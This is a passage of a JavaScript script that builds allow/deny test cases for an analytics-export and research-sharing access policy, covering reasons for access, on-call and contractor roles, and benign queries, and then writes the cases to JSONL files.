  "An on-call engineer shares incident data without a reason for access",
  "analytics-export",
  with_(ON_CALL, { action: { type: "share" }, context: { reasonForAccess: undefined } }),
  DENY(["deny-on-call-share-without-reason"]),
);
add(
  "reason-for-access",
  "on-call-export-missing",
  "An on-call engineer exports incident data without a reason for access",
  "analytics-export",
  with_(ON_CALL, { action: { type: "export" }, context: { reasonForAccess: undefined } }),
  DENY(["deny-export-without-reason"]),
);
for (const r of [
  "JIRA-1234 churn review",
  "INC-2024-0042",
  "audit request AR-7 from finance",
  "Quartalsbericht Q3 (Ticket 88)",
  "調査 #551",
  "board deck",
]) {
  add(
    "reason-for-access",
    `export-reason-${r.replace(/[^A-Za-z0-9]/g, "_")}`,
    `An export with the reason ${JSON.stringify(r)}`,
    "analytics-export",
    with_(ANALYST_EXPORT, { context: { reasonForAccess: r } }),
    ALLOW(["allow-analyst-export"]),
  );
}
add(
  "reason-for-access",
  "query-no-reason",
  "A query needs no reason for access",
  "analytics-export",
  ANALYST_QUERY,
  ALLOW(["allow-analyst-query"]),
);
add(
  "reason-for-access",
  "on-call-share-with-reason",
  "An on-call engineer shares incident data with the incident id as reason",
  "analytics-export",
  with_(ON_CALL, { action: { type: "share" } }),
  ALLOW(["allow-on-call-incident"]),
);
// Known friction: "x" is on the placeholder list, yet here it is a real (terse) reason.
add(
  "reason-for-access",
  "friction-terse-ticket",
  "An export whose reason is the ticket letter X of the legacy tracker (known friction: on the placeholder list)",
  "analytics-export",
  with_(ANALYST_EXPORT, { context: { reasonForAccess: "X" } }),
  ALLOW(["allow-analyst-export"]),
);

// ===== benign ====================================================================================
const TEAMS = [
  "growth",
  "finance",
  "risk",
  "O'Brien & Partners",
  "Zürich-Analytics",
  "データ分析",
  "team-42",
  "r&d",
];
const DATASETS = ["orders", "sessions", "invoices", "events.2024-06", "customers_v2", "Ærø-survey"];
let i = 0;
for (const team of TEAMS) {
  for (const ds of DATASETS.slice(0, 3)) {
    const role = ["analyst", "admin", "auditor"][i++ % 3];
    add(
      "benign",
      `query-${i}`,
      `${role} of ${team} queries ${ds}`,
      "analytics-export",
      with_(ANALYST_QUERY, { subject: { role, team }, resource: { dataset: ds } }),
      ALLOW(["allow-analyst-query"]),
    );
  }
}
for (const ds of DATASETS) {
  for (const rows of [1, 5000, 99999]) {
    add(
      "benign",
      `export-${ds.replace(/[^A-Za-z0-9]/g, "_")}-${rows}`,
      `analyst exports ${rows} rows of ${ds}`,
      "analytics-export",
      with_(ANALYST_EXPORT, { resource: { dataset: ds }, action: { rows } }),
      ALLOW(["allow-analyst-export"]),
    );
  }
}
for (const ds of ["payments", "logs", "ledger"]) {
  add(
    "benign",
    `on-call-${ds}`,
    `on-call engineer investigates an incident in ${ds}`,
    "analytics-export",
    with_(ON_CALL, { resource: { dataset: ds } }),
    ALLOW(["allow-on-call-incident"]),
  );
}
for (const ds of ["cohort-2023", "survey-eu", "trial-7"]) {
  add(
    "benign",
    `research-${ds}`,
    `research share of ${ds}`,
    "research-sharing",
    with_(RESEARCH_SHARE, { resource: { dataset: ds } }),
    ALLOW(["allow-open-license-research"]),
  );
}
// denied controls (not attacks, but the policies' ordinary denials)
add(
  "benign",
  "engineer-off-call",
  "an off-call engineer has no grant",
  "analytics-export",
  with_(ANALYST_QUERY, { subject: { role: "engineer" } }),
  DENY([]),
);
add(
  "benign",
  "contractor-non-pii",
  "an off-call contractor querying non-personal data has no grant",
  "analytics-export",
  with_(CONTRACTOR_PII, {
    subject: { onCall: false },
    resource: { containsPii: false },
    context: { purpose: "analytics" },
  }),
  DENY([]),
);
add(
  "benign",
  "contractor-on-call-non-pii",
  "an on-call contractor investigates an incident in non-personal data",
  "analytics-export",
  with_(CONTRACTOR_PII, { resource: { dataset: "alerts", containsPii: false } }),
  ALLOW(["allow-on-call-incident"]),
);
add(
  "benign",
  "research-pii-share",
  "sharing personal data with partners",
  "research-sharing",
  with_(RESEARCH_SHARE, { resource: { containsPii: true } }),
  DENY(["deny-pii-share"]),
);

// ---- write ---------------------------------------------------------------------------------------
let total = 0;
for (const [category, list] of cases) {
  const ids = new Set();
  for (const c of list) {
    if (ids.has(c.id)) throw new Error(`duplicate id ${c.id}`);
    ids.add(c.id);
  }
  writeFileSync(join(out, `${category}.jsonl`), `${list.map((c) => JSON.stringify(c)).join("\n")}\n`);
  total += list.length;
  console.error(
    `${category}: ${list.length} cases (${list.filter((c) => c.expect.decision === "allow").length} allow)`,
  );
}
console.error(`total: ${total}`);
